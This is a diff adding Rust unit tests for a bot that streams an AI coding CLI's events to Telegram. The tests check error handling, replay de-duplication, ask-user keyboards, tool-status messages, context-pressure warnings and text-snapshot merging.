+                    .await
+                    .unwrap();
+            }
+            let out = p.finish().await.unwrap();
+            assert!(!out.waiting_for_user);
+            assert_eq!(
+                out.provider_error.as_deref(),
+                provider_error,
+                "fixture {fixture_name}"
+            );
+            if let Some(error) = provider_error {
+                // The CLI's synthetic reply is an error report, not an answer to stream.
+                assert!(
+                    messenger.sends()[sends_before..]
+                        .iter()
+                        .all(|s| !s.contains(error)),
+                    "fixture {fixture_name} streamed its error as an answer"
+                );
+            } else {
+                assert!(
+                    out.text.contains(expected),
+                    "fixture {fixture_name} expected text to contain: {expected}, got: {}",
+                    out.text
+                );
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn provider_errors_are_told_apart_from_answers_about_errors() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let target = crate::domain::ChatId(1).into();
+        let run = |answer: &'static str, result: serde_json::Value| {
+            let (cfg, model, messenger) = (cfg.clone(), model.clone(), messenger.clone());
+            async move {
+                let mut p = test_pipeline(cfg, model, messenger, target);
+                if !answer.is_empty() {
+                    p.handle_event(ModelEvent::Assistant {
+                        raw: assistant_raw("s1", vec![json!({"type":"text","text": answer})]),
+                    })
+                    .await
+                    .unwrap();
+                }
+                p.handle_event(ModelEvent::Result { raw: result })
+                    .await
+                    .unwrap();
+                p.finish().await.unwrap().provider_error
+            }
+        };
+
+        // An answer that explains an API error is still an answer.
+        let explained = "API Error: 429 means you are rate limited.";
+        assert_eq!(
+            run(
+                explained,
+                json!({"type":"result","is_error":false,"result": explained})
+            )
+            .await,
+            None
+        );
+        // A flagged result after a real answer needs a known failure text to fail the turn.
+        assert_eq!(
+            run(
+                "Done.",
+                json!({"type":"result","subtype":"error_max_turns","is_error":true})
+            )
+            .await,
+            None
+        );
+        assert_eq!(
+            run(
+                "Half an answer",
+                json!({"type":"result","is_error":true,"result":"API Error: Overloaded"})
+            )
+            .await
+            .as_deref(),
+            Some("API Error: Overloaded")
+        );
+        // Known failure text fails the turn even when the CLI didn't flag it.
+        assert_eq!(
+            run(
+                "",
+                json!({"type":"result","is_error":false,"result":"API Error: Connection error."})
+            )
+            .await
+            .as_deref(),
+            Some("API Error: Connection error.")
+        );
+        assert!(is_connection_error("API Error: Connection error."));
+        assert!(!is_connection_error(
+            "Invalid API key · Fix external API key"
+        ));
+    }
+
+    #[tokio::test]
+    async fn ask_user_request_only_matches_its_topic() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-topic-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.telegram_allowed_users.push(9);
+        let messenger = RecordingMessenger::new();
+
+        let payload = json!({
+          "status": "pending",
+          "chat_id": "9",
+          "thread_id": "5",
+          "question": "Ship it?",
+          "options": ["yes", "no"],
+          "request_id": "topic1"
+        });
+        std::fs::write(
+            dir.join("ask-user-topic1.json"),
+            serde_json::to_string(&payload).unwrap(),
+        )
+        .unwrap();
+
+        let chat = crate::domain::ChatId(9);
+        let other_topic = check_pending_ask_user_requests(&messenger, &cfg, chat.into()).await;
+        let own_topic =
+            check_pending_ask_user_requests(&messenger, &cfg, ChatTarget::new(chat, Some(5))).await;
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert!(!other_topic.unwrap());
+        assert!(own_topic.unwrap());
+        let keyboards = messenger.keyboards();
+        assert_eq!(keyboards.len(), 1);
+        assert_eq!(keyboards[0].0, ChatTarget::new(chat, Some(5)));
+    }
+
+    #[tokio::test]
+    async fn replayed_tool_use_and_message_have_single_side_effects() {
+        let cfg = test_config();
+        let messenger = Arc::new(RecordingMessenger::new());
+        let guard = Arc::new(Mutex::new(ReplayGuard::default()));
+        let target: ChatTarget = crate::domain::ChatId(1).into();
+        let read = |msg_id: &str, tool_id: &str| ModelEvent::Assistant {
+            raw: json!({
+              "session_id": "s1",
+              "message": {
+                "id": msg_id,
+                "content": [{"type":"tool_use","id": tool_id,"name":"Read","input":{"file_path":"/tmp/foo.rs"}}]
+              }
+            }),
+        };
+
+        let mut first = test_pipeline(
+            cfg.clone(),
+            Arc::new(ScriptedModel::new()),
+            messenger.clone(),
+            target,
+        )
+        .with_replay_guard(guard.clone());
+        // Partial-message snapshots repeat the same message and tool_use within a run.
+        first.handle_event(read("msg_1", "tu_1")).await.unwrap();
+        first.handle_event(read("msg_1", "tu_1")).await.unwrap();
+        assert_eq!(first.tools_used, ["Read"]);
+
+        // The resumed run replays the last message, then continues with a new one.
+        let mut resumed = test_pipeline(
+            cfg,
+            Arc::new(ScriptedModel::new()),
+            messenger.clone(),
+            target,
+        )
+        .with_replay_guard(guard);
+        resumed.handle_event(read("msg_1", "tu_1")).await.unwrap();
+        assert!(resumed.tools_used.is_empty());
+        resumed.handle_event(read("msg_2", "tu_2")).await.unwrap();
+        assert_eq!(resumed.tools_used, ["Read"]);
+
+        let statuses = messenger
+            .sends()
+            .iter()
+            .filter(|s| s.contains("foo.rs"))
+            .count();
+        assert_eq!(statuses, 2, "{:?}", messenger.sends());
+    }
+
+    #[test]
+    fn replay_guard_forgets_oldest_ids() {
+        let mut guard = ReplayGuard::default();
+        for i in 0..REPLAY_GUARD_CAPACITY + 10 {
+            assert!(guard.first_tool_use(&format!("tu_{i}")));
+        }
+        assert!(!guard.first_tool_use(&format!("tu_{}", REPLAY_GUARD_CAPACITY + 9)));
+        assert!(guard.first_tool_use("tu_0"), "evicted ids are new again");
+        assert_eq!(guard.tool_uses.order.len(), REPLAY_GUARD_CAPACITY);
+        assert_eq!(guard.tool_uses.ids.len(), REPLAY_GUARD_CAPACITY);
+        assert!(guard.first_message("tu_1"), "kinds are tracked separately");
+    }
+
+    #[tokio::test]
+    async fn replayed_ask_user_request_does_not_send_a_second_keyboard() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-replay-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.telegram_allowed_users.push(9);
+        let messenger = RecordingMessenger::new();
+        let request = |id: &str| {
+            json!({
+              "status": "pending",
+              "chat_id": 9,
+              "question": "Ship it?",
+              "options": ["yes", "no"],
+              "request_id": id
+            })
+        };
+        std::fs::write(dir.join("ask-user-r1.json"), request("r1").to_string()).unwrap();
+        let target: ChatTarget = crate::domain::ChatId(9).into();
+        assert!(check_pending_ask_user_requests(&messenger, &cfg, target)
+            .await
+            .unwrap());
+
+        // The resumed run's replayed tool call writes the same question again.
+        std::fs::write(dir.join("ask-user-r2.json"), request("r2").to_string()).unwrap();
+        let replayed = check_pending_ask_user_requests(&messenger, &cfg, target).await;
+        let status = |name: &str| {
+            let v: serde_json::Value =
+                serde_json::from_str(&std::fs::read_to_string(dir.join(name)).unwrap()).unwrap();
+            v["status"].as_str().unwrap().to_string()
+        };
+        let (first, second) = (status("ask-user-r1.json"), status("ask-user-r2.json"));
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert!(replayed.unwrap(), "the original keyboard is still usable");
+        assert_eq!(messenger.keyboards().len(), 1);
+        assert_eq!((first.as_str(), second.as_str()), ("sent", "duplicate"));
+    }
+
+    #[tokio::test]
+    async fn sync_ask_user_request_is_never_suppressed_as_a_duplicate() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-sync-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.telegram_allowed_users.push(9);
+        let messenger = RecordingMessenger::new();
+        let request = |id: &str, status: &str, sync: bool| {
+            json!({
+              "status": status,
+              "chat_id": 9,
+              "question": "Ship it?",
+              "options": ["yes", "no"],
+              "request_id": id,
+              "sync": sync
+            })
+        };
+        let target: ChatTarget = crate::domain::ChatId(9).into();
+        let write = |name: &str, v: serde_json::Value| {
+            std::fs::write(dir.join(name), v.to_string()).unwrap();
+        };
+        write("ask-user-s1.json", request("s1", "sent", false));
+        write("ask-user-s2.json", request("s2", "pending", true));
+        let sent = check_pending_ask_user_requests(&messenger, &cfg, target).await;
+        let v: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(dir.join("ask-user-s2.json")).unwrap())
+                .unwrap();
+        let _ = std::fs::remove_dir_all(&dir);
+
+        // Its server is blocked on this file; a "duplicate" status would never be answered.
+        assert!(sent.unwrap());
+        assert_eq!(messenger.keyboards().len(), 1);
+        assert_eq!(v["status"], "sent");
+    }
+
+    #[tokio::test]
+    async fn answered_ask_user_question_asked_again_gets_a_keyboard() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-again-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.telegram_allowed_users.push(9);
+        let messenger = RecordingMessenger::new();
+        let request = |id: &str, status: &str| {
+            json!({
+              "status": status,
+              "chat_id": 9,
+              "question": "Ship it?",
+              "options": ["yes", "no"],
+              "request_id": id
+            })
+        };
+        let target: ChatTarget = crate::domain::ChatId(9).into();
+        std::fs::write(
+            dir.join("ask-user-a1.json"),
+            request("a1", "answered").to_string(),
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("ask-user-a2.json"),
+            request("a2", "pending").to_string(),
+        )
+        .unwrap();
+        let sent = check_pending_ask_user_requests(&messenger, &cfg, target).await;
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert!(sent.unwrap());
+        assert_eq!(messenger.keyboards().len(), 1);
+    }
+
+    #[tokio::test]
+    async fn failed_tool_result_is_appended_to_tool_status() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        replay_fixture(&mut p, "claude-stream-json.synthetic-tool-failure.jsonl").await;
+
+        assert!(
+            messenger.edited_html().iter().any(|s| s
+                == "▶️ Run tests\n❌ exit 1: npm ERR! Test failed. See above for more details."),
+            "edits: {:?}",
+            messenger.edited_html()
+        );
+    }
+
+    #[tokio::test]
+    async fn repeated_tool_action_is_folded_into_one_status() {
+        let mut cfg = (*test_config()).clone();
+        cfg.tool_status_coalesce = Duration::from_secs(10);
+        cfg.delete_tool_messages = true;
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            Arc::new(cfg),
+            Arc::new(ScriptedModel::new()),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        let tool = |id: &str, name: &str, input: serde_json::Value| ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","id":id,"name":name,"input":input})],
+            ),
+        };
+        let result = |id: &str, is_error: bool| ModelEvent::ToolResult {
+            raw: json!({"message": {"content": [
+                {"type":"tool_result","tool_use_id":id,"is_error":is_error,"content":"boom"}
+            ]}}),
+        };
+        for (i, file) in ["a.rs", "b.rs", "c.rs", "d.rs"].iter().enumerate() {
+            let id = format!("r{i}");
+            p.handle_event(tool(
+                &id,
+                "Read",
+                json!({"file_path": format!("/tmp/src/{file}")}),
+            ))
+            .await
+            .unwrap();
+            p.handle_event(result(&id, i == 1)).await.unwrap();
+        }
+        p.handle_event(tool("g1", "Grep", json!({"pattern": "fn main"})))
+            .await
+            .unwrap();
+
+        let statuses: Vec<String> = messenger
+            .sends()
+            .into_iter()
+            .filter(|s| s.starts_with("📖") || s.starts_with("🔎"))
+            .collect();
+        assert_eq!(
+            statuses,
+            [
+                "📖 Reading <code>src/a.rs</code>",
+                "🔎 Searching <code>fn main</code>"
+            ]
+        );
+        assert_eq!(
+            messenger.edited_html().last().map(String::as_str),
+            Some(
+                "📖 Reading 4 files: <code>src/a.rs</code>, <code>src/b.rs</code>, \
+                 <code>src/c.rs</code>, …\n❌ boom"
+            ),
+            "the first failure outlives later successes"
+        );
+
+        let group = p.stream.tool_messages[0];
+        assert_eq!(p.stream.tool_messages.len(), 2);
+        p.finish().await.unwrap();
+        messenger.assert_deleted(group);
+    }
+
+    #[tokio::test]
+    async fn compaction_event_notifies_and_is_reported() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        replay_fixture(&mut p, "claude-stream-json.synthetic-compaction.jsonl").await;
+        let out = p.finish().await.unwrap();
+
+        messenger.assert_sent_containing(
+            "♻️ Context compacted — older messages summarized (was 172.5k tokens)",
+        );
+        assert!(out.context_compacted);
+        assert!(out.text.contains("the migration is done"));
+    }
+
+    async fn replay_fixture(p: &mut EventPipeline, name: &str) {
+        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../../docs/rust-port/fixtures")
+            .join(name);
+        let txt = std::fs::read_to_string(path).unwrap();
+        for line in txt.lines().filter(|l| !l.trim().is_empty()) {
+            let raw: serde_json::Value = serde_json::from_str(line).unwrap();
+            p.handle_event(ModelEvent::from_stream_json(raw))
+                .await
+                .unwrap();
+        }
+    }
+
+    #[tokio::test]
+    async fn multiple_results_merge_text_usage_and_cost() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(cfg, model, messenger, crate::domain::ChatId(1).into());
+
+        replay_fixture(&mut p, "claude-stream-json.synthetic-multi-result.jsonl").await;
+        assert_eq!(p.final_result_text.as_deref(), Some("Retried: all good."));
+        // The retried result's running total already includes the failed attempt.
+        assert!((p.result_cost_usd.unwrap() - 0.02).abs() < 1e-9);
+
+        let out = p.finish().await.unwrap();
+        assert_eq!(out.text, "Retried: all good.");
+        let usage = out.usage.unwrap();
+        assert_eq!((usage.input_tokens, usage.output_tokens), (220, 9));
+    }
+
+    #[test]
+    fn merged_result_takes_the_final_verdict_and_counts_cost_once() {
+        let mut merged = MergedResult::default();
+        assert_eq!(merged.is_error(), None);
+        merged.push(&json!({"type": "result", "is_error": false, "result": "partial"}));
+        merged.push(&json!({"type": "result", "is_error": true, "result": "API Error"}));
+        assert_eq!(merged.count(), 2);
+        assert_eq!(merged.text(), Some("API Error"));
+        assert_eq!(merged.is_error(), Some(true));
+        assert!(merged.usage().is_none());
+
+        // A final success keeps the last successful text.
+        merged.push(&json!({"type": "result", "is_error": false}));
+        assert_eq!(merged.text(), Some("partial"));
+        assert_eq!(merged.is_error(), Some(false));
+
+        // The verdict is the final line's, even when it has none.
+        merged.push(&json!({"type": "result", "usage": {"input_tokens": 5}}));
+        assert_eq!(merged.is_error(), None);
+        assert_eq!(merged.usage().unwrap().input_tokens, 5);
+
+        // Usage without a reported cost is priced at the model's rates.
+        let pricing = ModelPricing {
+            input: 200_000.0,
+            output: 0.0,
+            cache_read: 0.0,
+            cache_write: 0.0,
+        };
+        assert_eq!(merged.cost_usd(&pricing), Some(1.0));
+        // A reported running total covers every result before it.
+        merged
+            .push(&json!({"type": "result", "total_cost_usd": 1.5, "usage": {"input_tokens": 5}}));
+        assert_eq!(merged.cost_usd(&pricing), Some(1.5));
+        merged.push(&json!({"type": "result", "total_cost_usd": 2.0}));
+        assert_eq!(merged.cost_usd(&pricing), Some(2.0));
+    }
+
+    #[tokio::test]
+    async fn context_exhausted_result_warns_once() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let target = crate::domain::ChatId(1).into();
+
+        let mut p = test_pipeline(cfg.clone(), model.clone(), messenger.clone(), target);
+        replay_fixture(
+            &mut p,
+            "claude-stream-json.synthetic-context-exhausted.jsonl",
+        )
+        .await;
+        let out = p.finish().await.unwrap();
+        assert_eq!(out.context_pressure, Some(ContextPressure::Exhausted));
+        messenger.assert_sent_containing(crate::i18n::EN.context_limit_warning());
+
+        // The session passes `warned` on later turns: still reported, not re-sent.
+        let mut p =
+            test_pipeline(cfg, model, messenger.clone(), target).with_context_state(0, true);
+        replay_fixture(
+            &mut p,
+            "claude-stream-json.synthetic-context-exhausted.jsonl",
+        )
+        .await;
+        let out = p.finish().await.unwrap();
+        assert_eq!(out.context_pressure, Some(ContextPressure::Exhausted));
+        let warnings = messenger
+            .sends()
+            .iter()
+            .filter(|s| **s == crate::i18n::EN.context_limit_warning())
+            .count();
+        assert_eq!(warnings, 1);
+    }
+
+    #[tokio::test]
+    async fn context_threshold_raises_pressure() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let target = crate::domain::ChatId(1).into();
+
+        // One API call's prompt (input + cache reads + cache writes) past the threshold.
+        let mut p = test_pipeline(cfg.clone(), model.clone(), messenger.clone(), target);
+        replay_fixture(
+            &mut p,
+            "claude-stream-json.synthetic-context-pressure.jsonl",
+        )
+        .await;
+        let out = p.finish().await.unwrap();
+        assert_eq!(
+            out.context_pressure,
+            Some(ContextPressure::NearLimit { tokens: 185_112 })
+        );
+        messenger.assert_sent_containing(crate::i18n::EN.context_limit_warning());
+
+        // Small prompts, but the session total since the last compaction crosses it.
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(cfg.clone(), model.clone(), messenger.clone(), target)
+            .with_context_state(179_990, false);
+        replay_fixture(&mut p, "claude-stream-json.synthetic-tool-use.jsonl").await;
+        let out = p.finish().await.unwrap();
+        assert!(matches!(
+            out.context_pressure,
+            Some(ContextPressure::NearLimit { tokens }) if tokens >= cfg.context_save_threshold_tokens
+        ));
+
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(cfg, model, messenger.clone(), target);
+        replay_fixture(&mut p, "claude-stream-json.synthetic-tool-use.jsonl").await;
+        let out = p.finish().await.unwrap();
+        assert_eq!(out.context_pressure, None);
+        assert!(!messenger
+            .sends()
+            .iter()
+            .any(|s| *s == crate::i18n::EN.context_limit_warning()));
+    }
+
+    #[test]
+    fn snapshots_only_append_their_new_suffix() {
+        let mut t = TextSegments::default();
+        assert_eq!(t.push_snapshot("Hel"), SnapshotDiff::Extends("Hel"));
+        assert_eq!(t.push_snapshot("Hello"), SnapshotDiff::Extends("lo"));
+        // Identical snapshot.
+        assert_eq!(t.push_snapshot("Hello"), SnapshotDiff::Unchanged);
+        assert_eq!(t.segment_text(), "Hello");
+        assert_eq!(t.joined(), "Hello");
+    }
+
+    #[test]
+    fn shorter_snapshots_are_ignored() {
+        let mut t = TextSegments::default();
+        t.push_snapshot("The build failed because of a missing feature flag.");
+        // Re-sent after tool interleaving or a reconnect: nothing is appended twice.
+        assert_eq!(
+            t.push_snapshot("The build failed because"),
+            SnapshotDiff::Unchanged
+        );
+        assert_eq!(t.push_snapshot(""), SnapshotDiff::Unchanged);
+        // The next cumulative snapshot still only adds its suffix.
+        assert_eq!(
+            t.push_snapshot("The build failed because of a missing feature flag. Fixed."),
+            SnapshotDiff::Extends(" Fixed.")
+        );
+        assert_eq!(
+            t.joined(),
+            "The build failed because of a missing feature flag. Fixed."
+        );
+    }
+
+    #[test]
+    fn diverging_snapshots_replace_the_tail_past_the_shared_prefix() {
+        let mut t = TextSegments::default();
+        t.push_snapshot("Here is the summary of the changes: one");
+        assert_eq!(
+            t.push_snapshot("Here is the summary of the changes: two, three"),
+            SnapshotDiff::Revised("two, three")
+        );
+        // Later snapshots extend the revised one.
+        assert_eq!(
+            t.push_snapshot("Here is the summary of the changes: two, three, four"),
+            SnapshotDiff::Extends(", four")
+        );
+        assert_eq!(
+            t.joined(),
+            "Here is the summary of the changes: two, three, four"
+        );
+        assert_eq!(t.total_len(), t.joined().len());
+        assert_eq!(t.segment_id(), 0);
+    }
+
+    #[test]
+    fn snapshots_of_closed_segments_are_not_repeated() {
+        let mut t = TextSegments::default();
+        t.push_snapshot("Let me look at the failing test first.");
+        t.end_segment();
+        // The pre-tool snapshot re-sent after the tool call.
+        assert_eq!(
+            t.push_snapshot("Let me look at the failing test first."),
+            SnapshotDiff::Unchanged
+        );
+        assert_eq!(
+            t.push_snapshot("The test expects UTC."),
+            SnapshotDiff::Extends("The test expects UTC.")
+        );
+        assert_eq!(
+            t.push_snapshot("Let me look at the failing test first."),
+            SnapshotDiff::Unchanged
+        );
+        assert_eq!(
+            t.segments(),
+            [
+                "Let me look at the failing test first.",
+                "The test expects UTC."
+            ]
+        );
+    }
+
+    #[test]
+    fn disjoint_snapshot_starts_a_new_segment() {
+        let mut t = TextSegments::default();
+        t.push_snapshot("First block.");
+        assert_eq!(
+            t.push_snapshot("Second block."),
+            SnapshotDiff::NewSegment {
+                closed: Some((0, "First block.".to_string())),
+                text: "Second block.",
+            }
+        );
+        assert_eq!(t.segment_id(), 1);
+        assert_eq!(t.segment_text(), "Second block.");
+        assert_eq!(
+            t.push_snapshot("Second block. More."),
+            SnapshotDiff::Extends(" More.")
+        );
+        assert_eq!(t.segments(), ["First block.", "Second block. More."]);
+    }
+
+    #[test]
+    fn segments_are_joined_with_the_separator() {
+        let mut t = TextSegments::default().with_separator("\n\n~~\n\n");
+        t.push("```rust\nfn main() {}\n```\n");
+        t.end_segment();
+        // A segment that only ever held whitespace is skipped.
+        t.push("\n");
+        t.end_segment();
+        t.push("Done.");
+        assert_eq!(
+            t.segments(),
+            ["```rust\nfn main() {}\n```\n", "Done."].map(String::from)
+        );
+        assert_eq!(t.joined(), "```rust\nfn main() {}\n```\n\n\n~~\n\nDone.");
+    }
+
+    #[test]
+    fn megabytes_of_deltas_retain_at_most_the_limit() {
+        const LIMIT: usize = 1024 * 1024;
+        // 1 KB chunks with multi-byte characters, so the cut has to find a char boundary.
+        let chunk = "é→ text ".repeat(1024 / "é→ text ".len());
+        let mut t = TextSegments::default().with_limit(LIMIT);
+        let mut fed = 0;
+        for _ in 0..4 {
+            for _ in 0..1000 {
+                t.push(&chunk);
+                fed += chunk.len();
+                assert!(t.retained_len() <= LIMIT);
+            }
+            t.end_segment()
+                .expect("segments with dropped text still close");
+        }
+
+        // Cumulative snapshots past the limit are still diffed correctly.
+        let mut snapshot = String::new();
+        for _ in 0..100 {
+            snapshot.push_str(&chunk.repeat(10));
+            let before = t.total_len();
+            t.push_snapshot(&snapshot);
+            assert_eq!(
+                t.total_len() - before,
+                chunk.len() * 10,
+                "only the new suffix"
+            );
+        }
+        fed += snapshot.len();
+
+        assert_eq!(t.total_len(), fed);
+        assert!(t.retained_len() <= LIMIT && t.retained_len() > LIMIT - 4);
+        assert!(t.is_truncated());
+        assert!(
+            t.segment_text().is_empty(),
+            "nothing left for later segments"
+        );
+        let joined = t.joined();
+        assert!(joined.starts_with(&chunk));
+        assert!(joined.ends_with(&format!(
+            "{TRUNCATION_MARKER} ({} of {fed} bytes kept)",
+            t.retained_len()
+        )));
+        assert!(joined.len() < LIMIT + 100);
+    }
+
+    #[test]
+    fn turns_under_the_limit_are_not_marked() {
+        let mut t = TextSegments::default().with_limit(64);
+        t.push("short ");
+        assert_eq!(
+            t.push_snapshot("short answer"),
+            SnapshotDiff::Extends("answer")
+        );
+        assert!(!t.is_truncated());
+        assert_eq!(t.joined(), "short answer");
+    }
+
+    #[test]
+    fn deltas_and_segments_accumulate_into_the_turn_text() {
+        let mut t = TextSegments::default();
+        assert_eq!(t.end_segment(), None, "empty segments are not closed");
+
+        t.push("Looking");
+        t.push(" now.");
+        assert_eq!(
+            t.push_snapshot("Looking now. Found it"),
+            SnapshotDiff::Extends(" Found it")
+        );
+        assert_eq!(
+            t.end_segment(),
+            Some((0, "Looking now. Found it".to_string()))
+        );
+        assert_eq!(t.segment_id(), 1);
+
+        // A new segment diffs from scratch again.
+        assert_eq!(t.push_snapshot("Done"), SnapshotDiff::Extends("Done"));
+        assert_eq!(t.joined(), "Looking now. Found it\n\n---\n\nDone");
+        assert_eq!(t.segments(), ["Looking now. Found it", "Done"]);
+    }
+}